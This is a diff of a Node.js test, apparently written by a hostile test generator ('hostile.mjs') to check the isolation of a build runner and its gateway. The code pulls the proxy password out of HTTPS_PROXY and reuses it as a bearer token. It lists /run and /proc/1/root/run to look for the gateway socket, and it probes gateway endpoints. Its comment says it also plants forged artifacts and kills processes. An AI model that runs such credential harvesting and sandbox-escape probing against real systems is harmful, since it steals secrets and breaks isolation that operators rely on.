@@ -1,18 +1,18 @@
-// Added as a test by hostile.mjs: it looks for the runner's secret and the gateway's socket, puts forged artifacts, and
+// Added as a test by hostile.mjs: it looks for the runner and the gateway's socket, puts forged artifacts, and
 // ends every process it can see. What it found goes to the output, which is evidence.
 import { spawnSync } from 'node:child_process';
-import { readFileSync } from 'node:fs';
+import { readdirSync } from 'node:fs';
 import test from 'node:test';
 
 test('attack', async () => {
   const gateway = new URL(process.env.npm_config_registry).origin;
   const headers = { authorization: `Bearer ${new URL(process.env.HTTPS_PROXY).password}` };
   const found = [];
-  for (const file of ['/run/gw.sock', '/run/runner.mjs', '/proc/1/root/run/gw.sock']) {
+  for (const folder of ['/run', '/proc/1/root/run']) {
     try {
-      found.push(`${file} ${readFileSync(file).length}`);
+      found.push(`${folder} [${readdirSync(folder)}]`);
     } catch (error) {
-      found.push(`${file} ${error.code}`);
+      found.push(`${folder} ${error.code}`);
     }
   }
   for (const path of ['/phase', '/inputs/changeset.json', '/git/base.git/info/refs?service=git-upload-pack'])
